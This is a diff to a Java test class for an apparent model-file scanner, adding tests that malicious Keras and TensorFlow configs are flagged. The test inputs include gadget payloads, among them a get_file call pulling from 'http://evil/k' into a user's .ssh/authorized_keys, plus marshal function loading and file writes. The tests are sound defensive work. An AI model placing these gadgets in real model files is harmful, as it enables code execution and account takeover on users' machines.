@@ -6,6 +6,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
 import java.nio.ByteBuffer;
 import java.nio.ByteOrder;
 import java.nio.charset.StandardCharsets;
@@ -115,5 +118,45 @@ class RedTeamTest {
     void ordinaryTemplatesStayClean(String template) {
         List<String> rules = ChatTemplateRules.check(template).stream().map(ChatTemplateRules.Hit::rule).toList();
         assertEquals(List.of(), rules);
+    }
+
+    // ---- Keras: gadgets inside the modules Keras trusts ----
+
+    static byte[] keras(String layer) throws IOException {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream z = new ZipOutputStream(bytes)) {
+            z.putNextEntry(new ZipEntry("config.json"));
+            z.write(("{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"layers\": [" + layer + "]}}")
+                    .getBytes(StandardCharsets.UTF_8));
+            z.putNextEntry(new ZipEntry("metadata.json"));
+            z.write("{\"keras_version\": \"3.8.0\"}".getBytes(StandardCharsets.UTF_8));
+        }
+        return bytes.toByteArray();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            // CVE-2025-8747: keras.utils.get_file resolved by module and name, downloads into any directory
+            "{\"module\": \"keras.utils\", \"class_name\": \"get_file\", \"config\": {\"fname\": \"authorized_keys\","
+                    + " \"origin\": \"http://evil/k\", \"cache_dir\": \"/home/u/.ssh\"}, \"registered_name\": \"get_file\"}",
+            // marshal-loads a function
+            "{\"module\": \"keras.src.utils.python_utils\", \"class_name\": \"function\", \"config\": \"func_load\","
+                    + " \"registered_name\": \"function\"}",
+            "{\"module\": \"tensorflow.io\", \"class_name\": \"write_file\", \"config\": {}, \"registered_name\": \"write_file\"}",
+            "{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"units\": 1, \"activation\":"
+                    + " {\"module\": \"tensorflow\", \"class_name\": \"function\", \"config\": \"py_function\","
+                    + " \"registered_name\": \"function\"}}}",
+            "{\"module\": \"keras.models\", \"class_name\": \"function\", \"config\": \"load_model\", \"registered_name\": \"function\"}"})
+    void kerasAndTensorflowGadgetsAreNotSafeForTheirModule(String layer) throws IOException {
+        assertHigh(scan("model.keras", keras(layer)));
+    }
+
+    @Test
+    void anOrdinaryKerasLayerStaysBelowHigh() throws IOException {
+        List<FileResult> r = scan("model.keras", keras("{\"module\": \"keras.layers\", \"class_name\": \"Dense\","
+                + " \"config\": {\"units\": 1, \"activation\": \"relu\", \"kernel_initializer\": {\"module\":"
+                + " \"keras.initializers\", \"class_name\": \"GlorotUniform\", \"config\": {}}}, \"registered_name\": null}"));
+        Severity w = worst(r);
+        assertTrue(w == null || !w.atLeast(Severity.HIGH), all(r).toString());
     }
 }
